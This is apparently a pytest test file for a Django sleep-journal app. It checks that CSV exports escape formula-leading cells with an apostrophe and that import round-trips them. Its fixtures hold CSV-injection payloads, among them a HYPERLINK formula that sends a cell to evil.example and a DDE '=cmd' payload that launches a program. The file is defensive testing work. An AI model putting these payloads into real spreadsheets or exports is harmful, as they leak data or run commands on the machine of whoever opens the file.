"""The export is safe to open in a spreadsheet (issue 8): a text cell that would start a formula
is written with a leading apostrophe, and the import takes it off, so export → import → export
gives the same bytes."""

import io
import zipfile
from datetime import date
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from journal.data.columns import spreadsheet_safe, unescape_cell
from journal.data.export import readme, to_cell
from journal.models import Event, Night
from tests.factories import (
    EventFactory,
    NightFactory,
    PartnerReportFactory,
    StageSegmentFactory,
    delete_journal,
    journal_counts,
)
from tests.pages import csv_rows, download_export, zip_members

pytestmark = pytest.mark.now("2026-11-20 09:30", tz="Europe/London")

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
FORMULA_NOTES = [
    HYPERLINK,
    "+1 leg twitch",
    "-5 min after lights out",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage return first",
    "'=already quoted",
    "''+two apostrophes",
    "'plain apostrophe",
    "=1+1, with a comma\nand a second line",
]


@pytest.mark.parametrize(
    "text, cell",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("-5 min", "'-5 min"),
        ("+1", "'+1"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'plain", "'plain"),
        ("plain = fine", "plain = fine"),
        ("", ""),
    ],
)
def test_a_text_that_would_start_a_formula_gets_one_apostrophe(text, cell):
    assert spreadsheet_safe(text) == cell
    assert unescape_cell(cell) == text


@given(st.text())
def test_reading_a_safe_cell_gives_back_the_text(text):
    assert unescape_cell(spreadsheet_safe(text)) == text


def test_plain_negative_numbers_in_number_columns_are_not_touched():
    field = Night._meta.get_field("alcohol_drinks")
    assert to_cell(Decimal("-1.5"), field, ZoneInfo("UTC")) == "-1.5"
    assert to_cell(-3, Event._meta.get_field("duration_seconds"), ZoneInfo("UTC")) == "-3"


def test_the_export_writes_the_hyperlink_note_as_text(signed_in, user):
    EventFactory(owner=user, notes=HYPERLINK)

    members = zip_members(download_export(signed_in).content)

    assert csv_rows(members["events.csv"])[0]["notes"] == "'" + HYPERLINK
    events_only = signed_in.get(reverse("export_events_csv")).content
    assert csv_rows(events_only)[0]["notes"] == "'" + HYPERLINK


def test_formula_cells_round_trip_byte_for_byte(signed_in, user):
    for minute, note in enumerate(FORMULA_NOTES):
        EventFactory(owner=user, clock=f"03:{minute:02d}", notes=note)
    PartnerReportFactory(owner=user, observer="=cmd|' /C calc'!A0", notes="-dash first")
    NightFactory(owner=user, night_of=date(2025, 10, 1), sleep_medication="+10 mg", notes="@x")
    StageSegmentFactory(owner=user, source="=Watch")
    first = zip_members(download_export(signed_in).content)
    counts = journal_counts(user)
    delete_journal(user)

    upload = SimpleUploadedFile("export.zip", download_bytes(first))
    response = signed_in.post(reverse("import"), {"file": upload})

    assert response.status_code == 302
    assert journal_counts(user) == counts
    notes = set(Event.objects.for_user(user).values_list("notes", flat=True))
    assert notes == set(FORMULA_NOTES)
    second = zip_members(download_export(signed_in).content)
    assert {name: second[name] for name in first if name.endswith(".csv")} == {
        name: content for name, content in first.items() if name.endswith(".csv")
    }


def download_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_the_readme_says_how_formula_cells_are_written(user):
    text = readme(user, date(2026, 11, 20))
    assert "apostrophe (') before it" in text
    assert "the import takes that apostrophe off again" in text
